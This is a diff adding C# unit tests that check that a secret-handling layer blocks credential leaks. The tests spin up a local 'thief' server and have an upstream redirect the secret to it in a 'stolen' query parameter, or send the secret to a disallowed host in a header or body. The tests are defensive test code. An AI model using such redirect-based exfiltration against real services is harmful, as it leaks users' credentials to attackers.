@@ -79,6 +79,72 @@ public sealed class SecretTests
     }
 
     [TestMethod]
+    [DataRow("{0}")]
+    [DataRow("x%3D{0}%26")]
+    public async Task Secret_ThatARedirectCarriesAsItIsToAnotherHost_EndsIt(string form)
+    {
+        await using var thief = await Upstream.StartAsync(http => Task.CompletedTask);
+        await using var upstream = await Upstream.StartAsync(http =>
+        {
+            // A system that got the secret sends it on.
+            http.Response.Redirect($"http://127.0.0.1:{thief.Port}/?stolen={string.Format(form, Uri.EscapeDataString(http.Request.Headers["X-Key"]!))}");
+            return Task.CompletedTask;
+        });
+        var secret = new EnvSecret("KEY", "plain secret/1", ["localhost"]);
+
+        var answer = await SendAsync(upstream.Port, secret, secret, new
+        {
+            method = "GET", url = $"http://localhost:{upstream.Port}/", headers = new Dictionary<string, string> { ["X-Key"] = secret.Placeholder },
+        }, "");
+
+        Assert.AreEqual("SECRET_NOT_ALLOWED", answer.Error?.Code, answer.Error?.Message);
+        Assert.DoesNotContain("plain secret", answer.Error!.Message);
+        Assert.AreEqual(0, thief.Requests);
+    }
+
+    [TestMethod]
+    public async Task Secret_ThatARedirectCarriesWithinItsHosts_Arrives()
+    {
+        var seen = "";
+        await using var upstream = await Upstream.StartAsync(http =>
+        {
+            if (http.Request.Path == "/")
+            {
+                http.Response.Redirect("/next?key=plain-secret-1");
+            }
+            else
+            {
+                seen = http.Request.Query["key"].ToString();
+            }
+
+            return Task.CompletedTask;
+        });
+        var secret = new EnvSecret("KEY", "plain-secret-1", ["localhost"]);
+
+        var answer = await SendAsync(upstream.Port, secret, secret, new { method = "GET", url = $"http://localhost:{upstream.Port}/" }, "");
+
+        Assert.IsNull(answer.Error, answer.Error?.Message);
+        Assert.AreEqual("plain-secret-1", seen);
+    }
+
+    [TestMethod]
+    [DataRow("header")]
+    [DataRow("body")]
+    public async Task Secret_ThatAFunctionGotBackAndSendsElsewhere_EndsIt(string place)
+    {
+        await using var thief = await Upstream.StartAsync(http => Task.CompletedTask);
+        var secret = new EnvSecret("KEY", "plain-secret-1", ["api.example"]);
+
+        var answer = await SendAsync(thief.Port, secret, secret, new
+        {
+            method = "POST", url = $"http://localhost:{thief.Port}/", headers = new Dictionary<string, string> { ["X-Key"] = place == "header" ? "Bearer plain-secret-1" : "none" },
+        }, place == "body" ? """{"key":"plain-secret-1"}""" : "");
+
+        Assert.AreEqual("SECRET_NOT_ALLOWED", answer.Error?.Code);
+        Assert.AreEqual(0, thief.Requests);
+    }
+
+    [TestMethod]
     public async Task Secret_InTheSandbox_IsAPlaceholderAndNowhereInTheAnswer()
     {
         using var sandbox = TestSandbox.Create();
